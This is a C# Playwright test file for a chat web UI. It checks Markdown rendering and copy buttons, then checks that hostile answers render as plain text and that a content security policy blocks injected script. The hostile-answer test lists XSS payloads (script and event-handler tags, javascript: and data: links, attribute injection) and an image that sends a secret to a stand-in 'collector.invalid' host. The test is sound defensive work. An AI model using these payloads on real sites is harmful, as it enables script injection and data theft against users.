using static Microsoft.Playwright.Assertions;

namespace MaiAgent.Sdk.Samples.Tests;

/// <summary>Answers in Markdown, and answers that would like to be more than text.</summary>
public sealed class WebChatMarkdownTests : EmulatorTest
{
    [Fact]
    public async Task Bold_lists_tables_links_and_code_are_shown_and_copied()
    {
        const string Text = """
            **重點：**請看snake_case_name與**「引號」**後。
            第二行 https://example.com/a。下一句

            1. 一
               - 內
            2. `a < b`

            | 品項 | 價格 |
            | --- | --- |
            | 書 | 100 |

            ```csharp
            if (a < b && c)
            {
            }
            ```

            > 引用
            """;
        var gate = new StreamGate();
        var middle = Text.IndexOf('<', StringComparison.Ordinal);
        Emulator.Enqueue(ScriptedResponse.Stream().Chunk(Text[..middle]).WaitFor(gate).Chunk(Text[middle..]).Done());
        await using var chat = await WebChatPage.OpenAsync(Emulator);
        await chat.AskAsync("說明");

        // What has been shown stays the same node, and with it the reader's selection.
        await Expect(chat.Answer.Locator("li").First).ToBeVisibleAsync();
        await chat.Answer.Locator("p").First.EvaluateAsync("p => p.dataset.kept = 'yes'");
        await chat.Answer.Locator("p").First.EvaluateAsync("p => delete p.dataset.kept && (window.first = p)");
        gate.Open();
        await chat.EndedAsync();
        Assert.True(await chat.Page.EvaluateAsync<bool>("window.first.isConnected"));

        await Expect(chat.Answer.Locator("strong")).ToHaveTextAsync(["重點：", "「引號」"]);
        await Expect(chat.Answer.Locator("em")).ToHaveCountAsync(0);
        await Expect(chat.Answer.Locator("ol > li")).ToHaveCountAsync(2);
        await Expect(chat.Answer.Locator("ol ul > li")).ToHaveTextAsync("內");
        await Expect(chat.Answer.Locator("li code")).ToHaveTextAsync("a < b");
        await Expect(chat.Answer.Locator("td")).ToHaveTextAsync(["書", "100"]);
        await Expect(chat.Answer.Locator("blockquote")).ToHaveTextAsync("引用");
        await Expect(chat.Answer.Locator("figcaption span")).ToHaveTextAsync("csharp");
        var link = chat.Answer.Locator("a");
        await Expect(link).ToHaveTextAsync("https://example.com/a");
        await Expect(link).ToHaveAttributeAsync("rel", "noopener noreferrer");

        await chat.Answer.Locator(".copy").ClickAsync();
        await Expect(chat.Answer.Locator(".copy")).ToHaveTextAsync("已複製");
        Assert.Equal("if (a < b && c)\n{\n}", await ClipboardAsync());
        await chat.Answers.Locator(".buttons .copy").ClickAsync();
        await Expect(chat.Answers.Locator(".buttons .copy")).ToHaveTextAsync("已複製");
        Assert.Equal(Text, await ClipboardAsync());
        await chat.ScreenshotAsync("markdown");

        Task<string> ClipboardAsync() => chat.Page.EvaluateAsync<string>("navigator.clipboard.readText()");
    }

    [Fact]
    public async Task A_hostile_answer_is_only_text()
    {
        string[] attacks =
        [
            "<script>window.hacked = 'script'</script>",
            "<img src=x onerror=\"window.hacked = 'img'\">",
            "<svg onload=\"window.hacked = 'svg'\"></svg>",
            "<iframe srcdoc=\"<script>parent.hacked = 'iframe'</script>\"></iframe>",
            "[link](javascript:window.hacked='link')",
            "[coded](java&#x0a;script:window.hacked='coded')",
            "[data](data:text/html,<script>opener.hacked='data'</script>)",
            "<javascript:window.hacked='auto'>",
            "![picture](https://collector.invalid/?secret=1)",
            "[title](https://example.com \"x\" onmouseover=\"window.hacked='title'\")",
            "```\"><img src=x onerror=\"window.hacked='info'\">\n</pre><script>window.hacked='code'</script>\n```",
        ];
        Emulator.Enqueue(attacks.Aggregate(ScriptedResponse.Stream(), (stream, attack) => stream.Chunk(attack + "\n\n")).Done());
        await using var chat = await WebChatPage.OpenAsync(Emulator);
        var addresses = new List<string>();
        chat.Page.Request += (_, request) => addresses.Add(request.Url);

        await chat.AskAsync(attacks[1]);
        await chat.EndedAsync();
        await chat.ScreenshotAsync("hostile");

        await Expect(chat.Answer).ToContainTextAsync(attacks[0]);
        await Expect(chat.Questions).ToHaveTextAsync(attacks[1]);
        await Expect(chat.Page.Locator("#log :is(script, img, svg, iframe, [onerror], [onload], [onmouseover])")).ToHaveCountAsync(0);
        var links = await chat.Page.Locator("#log a").EvaluateAllAsync<string[]>("links => links.map(link => link.protocol)");
        Assert.All(links, protocol => Assert.Equal("https:", protocol));
        Assert.Null(await chat.Page.EvaluateAsync<string?>("window.hacked ?? null"));
        Assert.All(addresses, address => Assert.Equal(new Uri(chat.Page.Url).Authority, new Uri(address).Authority));
        Assert.Empty(chat.Console);
    }

    [Fact]
    public async Task Not_even_a_script_that_got_into_the_page_runs()
    {
        await using var chat = await WebChatPage.OpenAsync(Emulator);

        await chat.Page.EvaluateAsync("document.body.insertAdjacentHTML('beforeend', `<img src=x onerror=\"window.hacked = 'img'\"><img id=far src=https://collector.invalid/>`)");

        await Expect(chat.Page.Locator("#far")).ToHaveJSPropertyAsync("complete", true);
        await Expect(chat.Page.Locator("#far")).ToHaveJSPropertyAsync("naturalWidth", 0);
        Assert.Null(await chat.Page.EvaluateAsync<string?>("window.hacked ?? null"));
        Assert.Contains(chat.Console, text => text.Contains("Content Security Policy", StringComparison.Ordinal));
    }
}
